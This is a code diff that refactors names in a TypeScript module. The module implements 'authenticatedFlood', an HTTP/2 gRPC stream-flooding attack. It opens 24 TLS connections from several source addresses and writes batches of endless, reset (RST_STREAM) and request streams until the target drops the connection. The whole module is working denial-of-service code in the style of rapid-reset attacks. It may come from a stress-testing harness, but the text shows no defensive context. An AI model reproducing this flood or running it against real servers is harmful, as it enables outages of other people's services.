@@ -1,7 +1,7 @@
 import type { Socket } from 'node:net';
-import { crowd, type Attack } from './attack.ts';
+import { repeatInParallel, type Attack } from './attack.ts';
 import { addressOf, isOpened, open, write } from './connection.ts';
-import { callTo, flags, four, frame, preface, types } from './frames.ts';
+import { callTo, flags, uint32, frame, preface, types } from './frames.ts';
 import { field, framed, methods, varint } from './grpc.ts';
 
 /** How many streams are opened in one write. */
@@ -23,7 +23,7 @@ type Kind = 'lists' | 'endless' | 'resets' | 'anonymous';
 function streamOf(kind: Kind, stream: number, message: Buffer): Buffer {
   const headers = frame(types.headers, flags.endHeaders, stream, kind === 'anonymous' ? list : again);
   if (kind === 'endless') return headers;
-  if (kind === 'resets') return Buffer.concat([headers, frame(types.reset, 0, stream, four(8))]);
+  if (kind === 'resets') return Buffer.concat([headers, frame(types.reset, 0, stream, uint32(8))]);
   return Buffer.concat([headers, frame(types.data, flags.endStream, stream, message)]);
 }
 
@@ -44,10 +44,10 @@ function answered(socket: Socket): Promise<boolean> {
 
 /** Opens as many streams as it can over 24 connections, on each of which one call was authenticated. */
 export async function authenticatedFlood(attack: Attack): Promise<void> {
-  const { target, tally, signal } = attack;
+  const { target, counter, signal } = attack;
   const kinds: readonly Kind[] = ['lists', 'endless', 'resets', 'anonymous'];
   const message = framed(field(1, `namespaces/${target.namespace}`));
-  await crowd(attack, 24, async (number, round) => {
+  await repeatInParallel(attack, 24, async (number, round) => {
     const kind = kinds[(number + round) % kinds.length] ?? 'lists';
     const socket = open({ port: target.ports.grpc, tls: 'h2', from: addressOf(number % 5) });
     if (await isOpened(socket, 'secureConnect')) {
@@ -58,9 +58,9 @@ export async function authenticatedFlood(attack: Attack): Promise<void> {
       for (let next = 3; !signal.aborted && isOpen; next += 2 * perWrite) {
         const streams = Array.from({ length: perWrite }, (_, at) => streamOf(kind, next + 2 * at, message));
         isOpen = await write(socket, Buffer.concat(streams));
-        tally.add(kind, perWrite);
+        counter.add(kind, perWrite);
       }
-      tally.add('closed');
+      counter.add('closed');
     }
     socket.destroy();
   });
